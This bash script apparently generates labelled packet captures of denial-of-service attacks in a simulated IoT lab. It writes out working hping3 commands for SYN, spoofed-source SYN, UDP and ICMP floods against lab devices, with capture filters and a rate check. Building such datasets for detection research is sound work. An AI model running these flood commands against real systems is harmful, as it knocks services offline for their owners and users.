# shellcheck shell=bash
# Floods by hping3 at some 2000 packets/s, bounded by their count so that the files stay small.

FLOOD_PACKETS=3000
FLOOD_LIFE=(thermo sensor door bulb cam)

# flood ATTACKER VICTIM SERVICE FILTER OPTION…: records one flood with life around it.
flood() {
    local attacker=$1 victim=$2 service=$3 filter=$4
    shift 4
    background "${FLOOD_LIFE[@]}"
    capture_start
    at 6
    attack flood "$attacker" "$victim" "$service" "$filter" -- \
        hping3 -q -n -i u400 -c "$FLOOD_PACKETS" "$@" "${IP[$victim]}"
    at 13
    capture_stop
    packets "$FLOOD_PACKETS" "$filter"
    fast_enough
}

# A flood slower than 1000 packets/s is not the one that the label promises.
fast_enough() {
    local first last row
    IFS='|' read -r -a row <<<"${ATTACKS[-1]}"
    read -r first last < <(window_of "${row[4]}" "${row[5]}" "${row[7]}")
    awk -v first="$first" -v last="$last" -v count="$FLOOD_PACKETS" 'BEGIN { exit count / (last - first) < 1000 }' ||
        die "$NAME: $FLOOD_PACKETS packets took from $first to $last, slower than 1000/s; record it on a quieter machine"
}

scenario flood-syn-hping3 committed pcap flood 'attack: SYN flood from one Internet host on the camera'
flood-syn-hping3() {
    flood out cam tcp/80 "tcp[tcpflags] & (tcp-syn|tcp-ack) = tcp-syn and src ${IP[out]} and dst ${IP[cam]}" -S -p 80
}

# The kernel of the router discards impossible sources (RFC 1812, 5.3.7), so more are sent than arrive.
scenario flood-syn-spoofed-hping3 committed nsecpcap flood 'attack: SYN flood with random spoofed sources on the camera'
flood-syn-spoofed-hping3() {
    local filter="tcp[tcpflags] & (tcp-syn|tcp-ack) = tcp-syn and dst ${IP[cam]} and dst port 80 and not src net 192.168.0.0/16"
    background "${FLOOD_LIFE[@]}"
    capture_start
    at 6
    spoofed_flood "$filter"
    at 13
    capture_stop
    packets 2400 "$filter"
}

spoofed_flood() {
    attack flood spoofed:out cam tcp/80 "$1" -- \
        hping3 -q -n -i u400 -c "$FLOOD_PACKETS" --rand-source -S -p 80 "${IP[cam]}"
}

scenario flood-udp-hping3 committed pcapng flood 'attack: UDP flood from one Internet host on the thermostat'
flood-udp-hping3() {
    flood out thermo udp/5353 "udp and src ${IP[out]} and dst ${IP[thermo]}" --udp -p 5353 -d 32
}

scenario flood-icmp-hping3 committed pcap flood 'attack: ICMP echo flood by the plug on the camera'
flood-icmp-hping3() {
    local FLOOD_LIFE=("${FLOOD_LIFE[@]}" plug)
    flood plug cam icmp "icmp[icmptype] = icmp-echo and src ${IP[plug]} and dst ${IP[cam]}" --icmp -d 32
}
